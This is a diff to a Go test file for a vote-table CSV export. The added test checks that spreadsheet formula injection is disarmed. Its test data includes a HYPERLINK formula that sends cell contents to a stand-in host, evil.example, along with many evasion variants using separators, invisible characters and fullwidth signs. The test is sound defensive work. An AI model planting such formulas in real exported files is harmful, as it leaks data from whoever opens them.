@@ -36,7 +36,7 @@ func TestExport(t *testing.T) {
 	if w.Header().Get("Content-Disposition") == "" || w.Header().Get("Content-Type") != "text/csv; charset=utf-8" {
 		t.Errorf("%v", w.Header())
 	}
-	records, err := csv.NewReader(w.Body).ReadAll()
+	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(w.Body.String(), "\uFEFF"))).ReadAll()
 	if err != nil || len(records) != 4 {
 		t.Fatalf("%d records: %v", len(records), err)
 	}
@@ -55,5 +55,49 @@ func TestExport(t *testing.T) {
 	}
 	if w := h.do("GET", "/api/votes.json"); w.Code != 503 {
 		t.Errorf("beyond the last slot: %d", w.Code)
+	}
+}
+
+// Excel opens the CSV as UTF-8, and no cell is a formula, wherever a system takes the start of a cell to be.
+func TestExportCSVIsHarmless(t *testing.T) {
+	const formula = `=HYPERLINK("http://evil.example/?"&A1)`
+	for text, want := range map[string]string{
+		"plain, \"quoted\" – text":        "plain, \"quoted\" – text",
+		"1-2=3 a+b a@b":                   "1-2=3 a+b a@b",
+		formula:                           "'" + formula,
+		"x;" + formula:                    "x;'" + formula,
+		"x; \u00a0\u200b\ufeff" + formula: "x; \u00a0\u200b\ufeff'" + formula,
+		"\u2066" + formula:                "\u2066'" + formula,
+		"x\n" + formula:                   "x\n'" + formula,
+		"x\r\n\r\n" + formula:             "x\r\n\r\n'" + formula,
+		"x\t" + formula:                   "x\t'" + formula,
+		"\n" + formula:                    "'\n'" + formula,
+		"\tx":                             "'\tx",
+		"\rx":                             "'\rx",
+		"x;\"" + formula:                  "x;\"'" + formula,
+		"\u3164\ufe0f=1":                  "\u3164\ufe0f'=1",
+		" +1":                             " '+1",
+		"-1":                              "'-1",
+		"@SUM(1)":                         "'@SUM(1)",
+		"＝1+1":                            "'＝1+1",
+		"＋1":                              "'＋1",
+		"－1":                              "'－1",
+		"＠x":                              "'＠x",
+		"a;;=b":                           "a;;'=b",
+		";":                               ";",
+		"":                                "",
+	} {
+		if got := string(appendDisarmed(nil, []byte(text))); got != want {
+			t.Errorf("%q is %q, want %q", text, got, want)
+		}
+	}
+	r := fiveVotes(t)
+	h := newTableHarness(t, r, nil)
+	body := h.do("GET", "/api/votes.csv").Body.String()
+	if !strings.HasPrefix(body, "\uFEFF\"vote_id\",\"user_query\",") || !strings.Contains(body, "\r\n\"1\",\"How do I reset my password?\",") {
+		t.Errorf("%q", body)
+	}
+	if !strings.Contains(body, `,,"'=cmd()",`) { // NULL has no quotes
+		t.Errorf("%q", body)
 	}
 }
